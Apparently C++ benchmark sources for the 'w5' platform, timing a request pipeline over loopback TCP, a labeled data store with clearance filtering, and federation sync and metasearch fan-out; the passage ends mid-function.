#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "core/gateway.h"
#include "core/provider.h"
#include "net/event_loop_server.h"
#include "net/http_client.h"
#include "net/tcp.h"

namespace {

using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

constexpr int kUsers = 8;

// One provider shared by every thread of every run (leaky magic static:
// benchmark processes exit without teardown, and a fresh provider per
// run would measure construction, not serving).
struct SharedFixture {
  w5::util::WallClock clock;
  Provider provider{ProviderConfig{}, clock};
  std::vector<std::string> sessions;

  SharedFixture() {
    for (int u = 0; u < kUsers; ++u) {
      const std::string user = "user" + std::to_string(u);
      (void)provider.signup(user, "password");
      sessions.push_back(provider.login(user, "password").value());
      (void)provider.http(Method::kPost, "/data/notes/seed" + std::to_string(u),
                          R"({"v":0})", sessions.back());
    }
    Module viewer;
    viewer.developer = "devco";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto record = ctx.get_record("notes", ctx.viewer().empty()
                                                ? "seed0"
                                                : "seed" + ctx.viewer().substr(4));
      if (!record.ok()) return HttpResponse::text(404, "none");
      return HttpResponse::text(200, record.value().data.dump());
    };
    (void)provider.modules().add(viewer);
  }
};

SharedFixture& fixture() {
  static SharedFixture* fx = new SharedFixture();  // leaky by design
  return *fx;
}

// The mixed workload: per iteration one store write, one app read that
// crosses the export perimeter, one direct data read, one /stats probe.
// Each thread acts as its own user, so writes land on distinct shard
// keys (the common case) while registries, sessions, kernel, and audit
// stay fully shared and contended.
void BM_MixedRequestPipeline(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];
  const std::string record =
      "/data/notes/bench-t" + std::to_string(state.thread_index());
  const std::string app = "/dev/devco/viewer";

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) + "}";
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kPost, record, body, session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, app, "", session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, record, "", session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, "/stats", "", session).status);
    requests += 4;
  }
  state.SetItemsProcessed(requests);
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(requests), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_MixedRequestPipeline)
    ->Threads(1)
    ->Threads(4)
    ->Threads(8)
    ->UseRealTime();

// Store-only fan-out: pure sharded put/get, the path the lock striping
// targets most directly.
void BM_StorePointOps(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];
  const std::string record =
      "/data/points/t" + std::to_string(state.thread_index());

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    const std::string body = "{\"v\":" + std::to_string(i) + "}";
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kPost, record, body, session).status);
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, record, "", session).status);
    requests += 2;
  }
  state.SetItemsProcessed(requests);
}
BENCHMARK(BM_StorePointOps)->Threads(1)->Threads(4)->Threads(8)->UseRealTime();

// Export fast path in isolation: the same viewer-app request over and
// over — after the first iteration every flow check is a memo hit.
void BM_ExportFastPath(benchmark::State& state) {
  SharedFixture& fx = fixture();
  const int user = static_cast<int>(state.thread_index()) % kUsers;
  const std::string& session = fx.sessions[static_cast<std::size_t>(user)];

  std::int64_t requests = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.provider.http(Method::kGet, "/dev/devco/viewer", "", session)
            .status);
    ++requests;
  }
  state.SetItemsProcessed(requests);
}
BENCHMARK(BM_ExportFastPath)->Threads(1)->Threads(4)->Threads(8)->UseRealTime();

// ---- E12b: the serving layer itself, over real TCP ----------------------
//
// Everything above measures the pipeline in-process. These benches put
// the wire back in: a provider served over loopback TCP in each serving
// mode (DESIGN.md §15), keep-alive clients doing the same mixed request
// pattern. Reactor vs pooled at the same thread counts is the tentpole
// comparison; the idle sweep is the reactor's reason to exist.

struct TcpServeFixture {
  w5::util::WallClock clock;
  std::unique_ptr<Provider> provider;
  w5::net::TcpListener listener;
  std::thread serve_thread;  // leaky: runs until process exit
  std::vector<std::string> cookies;

  explicit TcpServeFixture(w5::platform::ServeMode mode) {
    ProviderConfig config;
    config.serve_mode = mode;
    provider = std::make_unique<Provider>(std::move(config), clock);
    for (int u = 0; u < kUsers; ++u) {
      const std::string user = "tcp" + std::to_string(u);
      (void)provider->signup(user, "password");
      cookies.push_back("w5session=" +
                        provider->login(user, "password").value());
    }
    Module viewer;
    viewer.developer = "devco";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto record = ctx.get_record("notes", "tcpseed");
      return HttpResponse::text(record.ok() ? 200 : 404, "r");
    };
    (void)provider->modules().add(viewer);
    // Deep backlog: connect bursts must not hit SYN-queue retransmits.
    if (!listener.listen(0, 1024).ok()) std::abort();
    serve_thread = std::thread([this] { provider->serve(listener); });
  }
};

TcpServeFixture& tcp_fixture(w5::platform::ServeMode mode) {
  static TcpServeFixture* reactor =
      new TcpServeFixture(w5::platform::ServeMode::kEventLoop);
  static TcpServeFixture* pooled =
      new TcpServeFixture(w5::platform::ServeMode::kPooled);
  return mode == w5::platform::ServeMode::kEventLoop ? *reactor : *pooled;
}

// Stamps the connection-plane counters (the same w5_net_* family the
// gateway exports at /metrics) into the benchmark's user counters so
// BENCH_concurrency.json carries them next to the timing numbers.
void stamp_conn_counters(benchmark::State& state,
                         const w5::net::ConnStats& conn) {
  state.counters["conn_open"] =
      static_cast<double>(conn.open.load(std::memory_order_relaxed));
  state.counters["conn_idle"] =
      static_cast<double>(conn.idle.load(std::memory_order_relaxed));
  state.counters["conn_accepted"] =
      static_cast<double>(conn.accepted_total.load(std::memory_order_relaxed));
  state.counters["conn_timeout_closes"] = static_cast<double>(
      conn.timeout_closes_total.load(std::memory_order_relaxed));
  state.counters["conn_resets"] =
      static_cast<double>(conn.reset_total.load(std::memory_order_relaxed));
}

void run_tcp_mixed(benchmark::State& state, w5::platform::ServeMode mode) {
  TcpServeFixture& fx = tcp_fixture(mode);
  const std::string& cookie =
      fx.cookies[static_cast<std::size_t>(state.thread_index()) % kUsers];
  const std::string record =
      "/data/notes/tcp-t" + std::to_string(state.thread_index());

  // One keep-alive connection per client thread for the whole run —
  // in pooled mode it pins a worker, in reactor mode it is one epoll
  // entry; that asymmetry is exactly what the comparison measures.
  auto dial = w5::net::tcp_connect(fx.listener.port());
  if (!dial.ok()) std::abort();
  std::unique_ptr<w5::net::Connection> conn = std::move(dial.value());
  w5::net::HttpClient client;

  auto roundtrip = [&](Method method, const std::string& target,
                       std::string body) {
    w5::net::HttpRequest request;
    request.method = method;
    request.target = target;
    request.body = std::move(body);
    request.headers.set("Cookie", cookie);
    auto response = client.roundtrip(*conn, request);
    if (!response.ok()) {  // reaped mid-run: re-dial and carry on
      conn = std::move(w5::net::tcp_connect(fx.listener.port()).value());
      response = client.roundtrip(*conn, request);
    }
    benchmark::DoNotOptimize(response.ok() ? response.value().status : 0);
  };

  std::int64_t requests = 0;
  int i = 0;
  for (auto _ : state) {
    ++i;
    roundtrip(Method::kPost, record, "{\"v\":" + std::to_string(i) + "}");
    roundtrip(Method::kGet, "/dev/devco/viewer", "");
    roundtrip(Method::kGet, record, "");
    roundtrip(Method::kGet, "/stats", "");
    requests += 4;
  }
  state.SetItemsProcessed(requests);
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(requests), benchmark::Counter::kIsRate);
  if (state.thread_index() == 0)
    stamp_conn_counters(state, fx.provider->conn_stats());
}

void BM_TcpMixedPipeline_EventLoop(benchmark::State& state) {
  run_tcp_mixed(state, w5::platform::ServeMode::kEventLoop);
}
BENCHMARK(BM_TcpMixedPipeline_EventLoop)
    ->Threads(1)
    ->Threads(8)
    ->UseRealTime();

void BM_TcpMixedPipeline_Pooled(benchmark::State& state) {
  run_tcp_mixed(state, w5::platform::ServeMode::kPooled);
}
BENCHMARK(BM_TcpMixedPipeline_Pooled)->Threads(1)->Threads(8)->UseRealTime();

// ---- E12c: idle keep-alive sweep ----------------------------------------
//
// N established keep-alive connections sit idle while we watch the
// server process's CPU clock. The container caps the fd table at 20k,
// so the client ends live in a forked child (its own fd table); the
// child is pure raw syscalls — the parent is multithreaded at fork
// time, so nothing in the child may touch the heap or stdio.

void idle_client_child(std::uint16_t port, int want, int ready_fd,
                       int hold_fd) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int opened = 0;
  for (; opened < want; ++opened) {
    // The sockets are deliberately never stored or closed: they idle
    // until _exit() releases the whole fd table in one stroke.
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) break;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0)
      break;
  }
  char byte = static_cast<char>(opened == want);
  (void)!::write(ready_fd, &byte, 1);
  (void)!::read(hold_fd, &byte, 1);  // parked until the parent is done
  ::_exit(0);                        // kernel closes all 10k ends at once
}

double cpu_micros_now() {
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  const auto micros = [](const timeval& tv) {
    return static_cast<double>(tv.tv_sec) * 1e6 +
           static_cast<double>(tv.tv_usec);
  };
  return micros(usage.ru_utime) + micros(usage.ru_stime);
}

void BM_IdleConnectionCpu(benchmark::State& state) {
  const int want = static_cast<int>(state.range(0));
  w5::net::ServerStats stats;
  w5::net::ConnStats conn_stats;
  // Deadlines all disabled: nothing may reap the herd mid-measurement.
  w5::net::EventLoopHttpServer server(
      [](const w5::net::HttpRequest&) {
        return HttpResponse::text(200, "ok");
      },
      [](std::function<void()> job) {
        job();
        return true;
      },
      {}, {}, {}, &stats, &conn_stats);
  w5::net::TcpListener listener;
  if (!listener.listen(0, 1024).ok()) std::abort();
  std::thread serve_thread([&] { server.serve(listener); });

  int ready_pipe[2], hold_pipe[2];
  if (pipe(ready_pipe) != 0 || pipe(hold_pipe) != 0) std::abort();
  const pid_t child = fork();
  if (child == 0)
    idle_client_child(listener.port(), want, ready_pipe[1], hold_pipe[0]);
  char byte = 0;
  if (::read(ready_pipe[0], &byte, 1) != 1 || byte != 1) {
    state.SkipWithError("idle client child failed to connect the full herd");
  }
  // The child's connects outrun the accept loop at the tail; wait for
  // the gauge to agree before starting the CPU clock.
  for (int i = 0; i < 10'000 && conn_stats.open.load() < want; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(1));

  const double cpu_before = cpu_micros_now();
  const auto wall_before = std::chrono::steady_clock::now();
  for (auto _ : state)
    std::this_thread::sleep_for(std::chrono::milliseconds(250));
  const double cpu_spent = cpu_micros_now() - cpu_before;
  const double wall_spent =
      static_cast<double>(std::chrono::duration_cast<std::chrono::microseconds>(
                              std::chrono::steady_clock::now() - wall_before)
                              .count());

  state.counters["open_conns"] =
      static_cast<double>(conn_stats.open.load(std::memory_order_relaxed));
  state.counters["idle_conns"] =
      static_cast<double>(conn_stats.idle.load(std::memory_order_relaxed));
  // Server-process CPU per wall second while N connections idle — the
  // pooled design's 50ms poll quantum made this scale with N; the
  // reactor's epoll set should hold it near zero at any N.
  state.counters["cpu_core_pct"] = cpu_spent * 100.0 / wall_spent;

  (void)!::write(hold_pipe[1], &byte, 1);
  int status = 0;
  waitpid(child, &status, 0);
  listener.close();
  serve_thread.join();
  for (int fd : {ready_pipe[0], ready_pipe[1], hold_pipe[0], hold_pipe[1]})
    ::close(fd);
}
BENCHMARK(BM_IdleConnectionCpu)
    ->Arg(1000)
    ->Arg(10000)
    ->Iterations(4)
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();

}  // namespace
