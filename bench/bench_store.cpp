// E5 — the labeled store vs an unlabeled std::map baseline, and the cost
// of the covert-channel clearance filter (§3.5 "replace SQL").
#include <benchmark/benchmark.h>

#include <map>

#include "store/labeled_store.h"
#include "store/query.h"
#include "util/rng.h"

namespace {

using w5::difc::Label;
using w5::difc::LabelState;
using w5::difc::ObjectLabels;
using w5::difc::plus;
using w5::difc::Tag;
using w5::os::kKernelPid;
using w5::store::LabeledStore;
using w5::store::QueryOptions;
using w5::store::Raise;
using w5::store::Record;

struct StoreFixture {
  w5::os::Kernel kernel;
  w5::util::SimClock clock;
  LabeledStore store{kernel, clock};
  std::vector<Tag> user_tags;

  // n records spread across `users` owners, each with their own tag.
  StoreFixture(std::size_t n, std::size_t users) {
    for (std::size_t u = 0; u < users; ++u) {
      user_tags.push_back(
          kernel
              .create_tag(kKernelPid, "sec(u" + std::to_string(u) + ")",
                          w5::difc::TagPurpose::kSecrecy)
              .value());
      kernel.add_global_capability(plus(user_tags.back()));
    }
    w5::util::Rng rng(7);
    for (std::size_t i = 0; i < n; ++i) {
      const std::size_t u = i % users;
      Record record;
      record.collection = "photos";
      record.id = "p" + std::to_string(i);
      record.owner = "u" + std::to_string(u);
      record.labels = ObjectLabels{Label{user_tags[u]}, {}};
      record.data["title"] = "photo " + std::to_string(i);
      record.data["rating"] = static_cast<int>(rng.next_below(6));
      (void)store.put(kKernelPid, std::move(record));
    }
  }
};

void BM_UnlabeledMapGet(benchmark::State& state) {
  std::map<std::string, std::string> db;
  for (int i = 0; i < 10000; ++i)
    db["p" + std::to_string(i)] = "payload";
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.find("p5000"));
  }
}
BENCHMARK(BM_UnlabeledMapGet);

void BM_LabeledStoreGet(benchmark::State& state) {
  StoreFixture fx(10000, 100);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.store.get(kKernelPid, "photos", "p5000", Raise::kNo));
  }
}
BENCHMARK(BM_LabeledStoreGet);

void BM_LabeledStoreGetAsApp(benchmark::State& state) {
  StoreFixture fx(10000, 100);
  const auto pid =
      fx.kernel.spawn_trusted("app", LabelState({}, {}, {}));
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.store.get(pid, "photos", "p5000", Raise::kYes));
  }
}
BENCHMARK(BM_LabeledStoreGetAsApp);

void BM_LabeledStorePut(benchmark::State& state) {
  StoreFixture fx(1, 1);
  Record record;
  record.collection = "scratch";
  record.id = "s";
  record.owner = "u0";
  record.labels = ObjectLabels{Label{fx.user_tags[0]}, {}};
  record.data["x"] = 1;
  (void)fx.store.put(kKernelPid, record);
  for (auto _ : state) {
    record.data["x"] = record.data.at("x").as_int() + 1;
    benchmark::DoNotOptimize(fx.store.put(kKernelPid, record).ok());
  }
}
BENCHMARK(BM_LabeledStorePut);

// Query scan throughput by store size (kernel sees everything).
void BM_QueryScanAll(benchmark::State& state) {
  StoreFixture fx(static_cast<std::size_t>(state.range(0)), 100);
  for (auto _ : state) {
    auto result = fx.store.query(kKernelPid, "photos", {});
    benchmark::DoNotOptimize(result.value().size());
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_QueryScanAll)->Arg(1000)->Arg(10000);

// The covert-channel filter: an app cleared for 1 of `users` tags scans a
// store where (users-1)/users of records are invisible. Cost must track
// the SCAN size, not the visible size — but charges only visible rows.
void BM_QueryClearanceFiltered(benchmark::State& state) {
  const auto users = static_cast<std::size_t>(state.range(0));
  StoreFixture fx(10000, users);
  // A process that owns only u0's plus capability and nothing global:
  w5::os::Kernel isolated_kernel;
  // Rebuild with non-global tags to make filtering real.
  LabeledStore store(isolated_kernel, fx.clock);
  std::vector<Tag> tags;
  for (std::size_t u = 0; u < users; ++u) {
    tags.push_back(isolated_kernel
                       .create_tag(kKernelPid, "t" + std::to_string(u),
                                   w5::difc::TagPurpose::kSecrecy)
                       .value());
  }
  for (std::size_t i = 0; i < 10000; ++i) {
    Record record;
    record.collection = "photos";
    record.id = "p" + std::to_string(i);
    record.owner = "u" + std::to_string(i % users);
    record.labels = ObjectLabels{Label{tags[i % users]}, {}};
    record.data["rating"] = static_cast<int>(i % 6);
    (void)store.put(kKernelPid, std::move(record));
  }
  const auto pid = isolated_kernel.spawn_trusted(
      "app", LabelState({}, {}, w5::difc::CapabilitySet{plus(tags[0])}));
  for (auto _ : state) {
    auto result = store.query(pid, "photos", {});
    benchmark::DoNotOptimize(result.value().size());
  }
  state.counters["visible_fraction"] = 1.0 / static_cast<double>(users);
}
BENCHMARK(BM_QueryClearanceFiltered)->Arg(1)->Arg(4)->Arg(16)->Arg(64);

// Owner-indexed query vs full scan.
void BM_QueryByOwnerIndex(benchmark::State& state) {
  StoreFixture fx(10000, 100);
  for (auto _ : state) {
    auto result =
        fx.store.query(kKernelPid, "photos", QueryOptions{.owner = "u7"});
    benchmark::DoNotOptimize(result.value().size());
  }
}
BENCHMARK(BM_QueryByOwnerIndex);

void BM_QueryWithPredicate(benchmark::State& state) {
  StoreFixture fx(10000, 100);
  const auto predicate = w5::store::field_between("rating", 4, 5);
  for (auto _ : state) {
    auto result = fx.store.query(kKernelPid, "photos",
                                 QueryOptions{.predicate = predicate});
    benchmark::DoNotOptimize(result.value().size());
  }
}
BENCHMARK(BM_QueryWithPredicate);

void BM_CountClearanceBounded(benchmark::State& state) {
  StoreFixture fx(10000, 100);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.store.count(kKernelPid, "photos", {}));
  }
}
BENCHMARK(BM_CountClearanceBounded);

}  // namespace
