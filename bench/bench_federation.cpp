// E9 — mirror sync between two providers (§3.3): records/s by batch
// size, incremental-sync cost, and conflict-resolution overhead.
#include <benchmark/benchmark.h>

#include <memory>

#include "fed/node.h"

namespace {

using w5::fed::Node;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

struct FedFixture {
  w5::util::SimClock clock;
  w5::net::InMemoryNetwork network;
  Provider provider_a{ProviderConfig{.name = "providerA"}, clock};
  Provider provider_b{ProviderConfig{.name = "providerB"}, clock};
  Node node_a{"providerA", provider_a, network};
  Node node_b{"providerB", provider_b, network};

  FedFixture() {
    (void)provider_a.signup("bob", "password");
    (void)provider_b.signup("bob", "password");
    node_a.mirrors().authorize("bob", "providerB");
    node_b.mirrors().authorize("bob", "providerA");
  }

  void seed(std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) {
      w5::util::Json data;
      data["title"] = "photo " + std::to_string(i);
      (void)node_a.put_user_record("bob", "photos", "p" + std::to_string(i),
                                   data);
    }
  }
};

// Full first sync of n records.
void BM_InitialSync(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    state.PauseTiming();
    auto fx = std::make_unique<FedFixture>();
    fx->seed(n);
    state.ResumeTiming();
    auto stats = fx->node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != n)
      state.SkipWithError("sync failed");
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(n));
  state.SetLabel("records=" + std::to_string(n));
}
BENCHMARK(BM_InitialSync)->Arg(10)->Arg(100)->Arg(1000)
    ->Unit(benchmark::kMillisecond);

// Steady-state no-op sync (everything already replicated).
void BM_IdempotentResync(benchmark::State& state) {
  FedFixture fx;
  fx.seed(500);
  (void)fx.node_b.sync_from("providerA");
  for (auto _ : state) {
    auto stats = fx.node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != 0)
      state.SkipWithError("unexpected application");
  }
  state.SetLabel("records=500, all current");
}
BENCHMARK(BM_IdempotentResync)->Unit(benchmark::kMillisecond);

// Incremental: one fresh edit among 500 replicated records.
void BM_IncrementalSync(benchmark::State& state) {
  FedFixture fx;
  fx.seed(500);
  (void)fx.node_b.sync_from("providerA");
  std::size_t round = 0;
  for (auto _ : state) {
    state.PauseTiming();
    w5::util::Json data;
    data["title"] = "edit " + std::to_string(round++);
    (void)fx.node_a.put_user_record("bob", "photos", "p0", data);
    state.ResumeTiming();
    auto stats = fx.node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != 1)
      state.SkipWithError("incremental sync failed");
  }
}
BENCHMARK(BM_IncrementalSync)->Unit(benchmark::kMillisecond);

// Conflict resolution: both sides edit the same record every round.
void BM_ConflictResolution(benchmark::State& state) {
  FedFixture fx;
  fx.seed(10);
  (void)fx.node_b.sync_from("providerA");
  std::size_t conflicts = 0;
  std::size_t round = 0;
  for (auto _ : state) {
    state.PauseTiming();
    fx.clock.advance(10);
    w5::util::Json edit_a;
    edit_a["title"] = "A" + std::to_string(round);
    (void)fx.node_a.put_user_record("bob", "photos", "p0", edit_a);
    fx.clock.advance(10);
    w5::util::Json edit_b;
    edit_b["title"] = "B" + std::to_string(round++);
    (void)fx.node_b.put_user_record("bob", "photos", "p0", edit_b);
    state.ResumeTiming();
    auto stats_b = fx.node_b.sync_from("providerA");
    auto stats_a = fx.node_a.sync_from("providerB");
    if (stats_b.ok()) conflicts += stats_b.value().conflicts;
    if (stats_a.ok()) conflicts += stats_a.value().conflicts;
  }
  state.counters["conflicts_resolved"] = static_cast<double>(conflicts);
}
BENCHMARK(BM_ConflictResolution)->Unit(benchmark::kMillisecond);

}  // namespace
