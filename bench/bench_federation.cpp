// E9 — mirror sync between two providers (§3.3): records/s by batch
// size, incremental-sync cost, and conflict-resolution overhead.
//
// E16 — federated metasearch (DESIGN.md §18): fan-out latency vs peer
// count (BM_FanoutLatency) and cutoff effectiveness (BM_CutoffPartial vs
// BM_CutoffFullWait: with one peer stalling 20 ms, the deadline-budgeted
// partial page must beat the full-wait p99 by the factor
// scripts/bench_json.sh federation gates on).
#include <benchmark/benchmark.h>

#include <algorithm>
#include <chrono>
#include <memory>
#include <string>
#include <vector>

#include "fed/metasearch.h"
#include "fed/node.h"
#include "net/fault.h"

namespace {

using w5::fed::Node;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

struct FedFixture {
  w5::util::SimClock clock;
  w5::net::InMemoryNetwork network;
  Provider provider_a{ProviderConfig{.name = "providerA"}, clock};
  Provider provider_b{ProviderConfig{.name = "providerB"}, clock};
  Node node_a{"providerA", provider_a, network};
  Node node_b{"providerB", provider_b, network};

  FedFixture() {
    (void)provider_a.signup("bob", "password");
    (void)provider_b.signup("bob", "password");
    node_a.mirrors().authorize("bob", "providerB");
    node_b.mirrors().authorize("bob", "providerA");
  }

  void seed(std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) {
      w5::util::Json data;
      data["title"] = "photo " + std::to_string(i);
      (void)node_a.put_user_record("bob", "photos", "p" + std::to_string(i),
                                   data);
    }
  }
};

// Full first sync of n records.
void BM_InitialSync(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    state.PauseTiming();
    auto fx = std::make_unique<FedFixture>();
    fx->seed(n);
    state.ResumeTiming();
    auto stats = fx->node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != n)
      state.SkipWithError("sync failed");
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(n));
  state.SetLabel("records=" + std::to_string(n));
}
BENCHMARK(BM_InitialSync)->Arg(10)->Arg(100)->Arg(1000)
    ->Unit(benchmark::kMillisecond);

// Steady-state no-op sync (everything already replicated).
void BM_IdempotentResync(benchmark::State& state) {
  FedFixture fx;
  fx.seed(500);
  (void)fx.node_b.sync_from("providerA");
  for (auto _ : state) {
    auto stats = fx.node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != 0)
      state.SkipWithError("unexpected application");
  }
  state.SetLabel("records=500, all current");
}
BENCHMARK(BM_IdempotentResync)->Unit(benchmark::kMillisecond);

// Incremental: one fresh edit among 500 replicated records.
void BM_IncrementalSync(benchmark::State& state) {
  FedFixture fx;
  fx.seed(500);
  (void)fx.node_b.sync_from("providerA");
  std::size_t round = 0;
  for (auto _ : state) {
    state.PauseTiming();
    w5::util::Json data;
    data["title"] = "edit " + std::to_string(round++);
    (void)fx.node_a.put_user_record("bob", "photos", "p0", data);
    state.ResumeTiming();
    auto stats = fx.node_b.sync_from("providerA");
    if (!stats.ok() || stats.value().applied != 1)
      state.SkipWithError("incremental sync failed");
  }
}
BENCHMARK(BM_IncrementalSync)->Unit(benchmark::kMillisecond);

// Conflict resolution: both sides edit the same record every round.
void BM_ConflictResolution(benchmark::State& state) {
  FedFixture fx;
  fx.seed(10);
  (void)fx.node_b.sync_from("providerA");
  std::size_t conflicts = 0;
  std::size_t round = 0;
  for (auto _ : state) {
    state.PauseTiming();
    fx.clock.advance(10);
    w5::util::Json edit_a;
    edit_a["title"] = "A" + std::to_string(round);
    (void)fx.node_a.put_user_record("bob", "photos", "p0", edit_a);
    fx.clock.advance(10);
    w5::util::Json edit_b;
    edit_b["title"] = "B" + std::to_string(round++);
    (void)fx.node_b.put_user_record("bob", "photos", "p0", edit_b);
    state.ResumeTiming();
    auto stats_b = fx.node_b.sync_from("providerA");
    auto stats_a = fx.node_a.sync_from("providerB");
    if (stats_b.ok()) conflicts += stats_b.value().conflicts;
    if (stats_a.ok()) conflicts += stats_a.value().conflicts;
  }
  state.counters["conflicts_resolved"] = static_cast<double>(conflicts);
}
BENCHMARK(BM_ConflictResolution)->Unit(benchmark::kMillisecond);

// ---- E16: the metasearch fan-out --------------------------------------------

// One home provider peered with `peers` others, each holding 20 of bob's
// photos. Declaration order matters: the Metasearch member is last, so
// it is destroyed (and its straggler hop threads joined) before the
// nodes and the network it dials through.
struct MetaFixture {
  w5::util::SimClock clock;
  w5::net::InMemoryNetwork network;
  Provider home{ProviderConfig{.name = "home"}, clock};
  Node home_node{"home", home, network};
  std::vector<std::unique_ptr<Provider>> peer_providers;
  std::vector<std::unique_ptr<Node>> peer_nodes;
  std::unique_ptr<w5::fed::Metasearch> meta;

  explicit MetaFixture(std::size_t peers,
                       w5::fed::MetasearchConfig config = {}) {
    (void)home.signup("bob", "password");
    seed(home_node, "h");
    for (std::size_t i = 0; i < peers; ++i) {
      const std::string name = "peer" + std::to_string(i);
      peer_providers.push_back(
          std::make_unique<Provider>(ProviderConfig{.name = name}, clock));
      peer_nodes.push_back(
          std::make_unique<Node>(name, *peer_providers.back(), network));
      (void)peer_providers.back()->signup("bob", "password");
      home_node.mirrors().authorize("bob", name);
      peer_nodes.back()->mirrors().authorize("bob", "home");
      seed(*peer_nodes.back(), "p" + std::to_string(i) + "-");
    }
    meta = std::make_unique<w5::fed::Metasearch>(home_node, config);
  }

  static void seed(Node& node, const std::string& prefix) {
    for (int i = 0; i < 20; ++i) {
      w5::util::Json data;
      data["title"] = "photo " + std::to_string(i);
      (void)node.put_user_record("bob", "photos", prefix + std::to_string(i),
                                 data);
    }
  }

  static w5::platform::FederatedQuery query() {
    w5::platform::FederatedQuery q;
    q.collection = "photos";
    q.limit = 50;
    return q;
  }
};

void report_p99(benchmark::State& state,
                std::vector<std::uint64_t>& latencies_us) {
  std::sort(latencies_us.begin(), latencies_us.end());
  state.counters["p99_us"] =
      latencies_us.empty()
          ? 0.0
          : static_cast<double>(latencies_us[latencies_us.size() * 99 / 100]);
}

// Fan-out latency vs peer count: every peer healthy, merged window of
// (peers + 1) * 20 records per search.
void BM_FanoutLatency(benchmark::State& state) {
  const auto peers = static_cast<std::size_t>(state.range(0));
  MetaFixture fx(peers);
  std::vector<std::uint64_t> latencies_us;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    auto page = fx.meta->search(w5::os::kKernelPid, "bob", fx.query());
    const auto elapsed = std::chrono::duration_cast<std::chrono::microseconds>(
        std::chrono::steady_clock::now() - start);
    if (!page.ok() || page.value().partial)
      state.SkipWithError("fan-out failed or degraded");
    latencies_us.push_back(static_cast<std::uint64_t>(elapsed.count()));
  }
  report_p99(state, latencies_us);
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.SetLabel("peers=" + std::to_string(peers));
}
BENCHMARK(BM_FanoutLatency)->Arg(1)->Arg(2)->Arg(4)->Arg(8)
    ->Unit(benchmark::kMillisecond);

// Shared body for the cutoff pair: two peers, one of them stalling 20 ms
// per write; only the gather budget differs.
void run_cutoff(benchmark::State& state, w5::util::Micros budget,
                bool expect_partial) {
  w5::fed::MetasearchConfig config;
  config.fanout_budget_micros = budget;
  MetaFixture fx(2, config);
  fx.meta->set_connection_decorator(
      [](const std::string& peer, std::unique_ptr<w5::net::Connection> inner)
          -> std::unique_ptr<w5::net::Connection> {
        if (peer != "peer1") return inner;
        return std::make_unique<w5::net::FaultyConnection>(
            std::move(inner),
            w5::net::FaultSchedule::scripted(
                {}, {{w5::net::FaultKind::kDelay, 20'000, 1}}));
      });
  std::vector<std::uint64_t> latencies_us;
  std::uint64_t partial_pages = 0;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    auto page = fx.meta->search(w5::os::kKernelPid, "bob", fx.query());
    const auto elapsed = std::chrono::duration_cast<std::chrono::microseconds>(
        std::chrono::steady_clock::now() - start);
    if (!page.ok()) state.SkipWithError("fan-out failed");
    if (page.ok() && page.value().partial) ++partial_pages;
    if (page.ok() && page.value().records.empty())
      state.SkipWithError("degraded to an empty page");
    latencies_us.push_back(static_cast<std::uint64_t>(elapsed.count()));
  }
  report_p99(state, latencies_us);
  state.counters["partial_pages"] = static_cast<double>(partial_pages);
  if (expect_partial && partial_pages != static_cast<std::uint64_t>(
                            state.iterations()))
    state.SkipWithError("cutoff never fired");
  if (!expect_partial && partial_pages != 0)
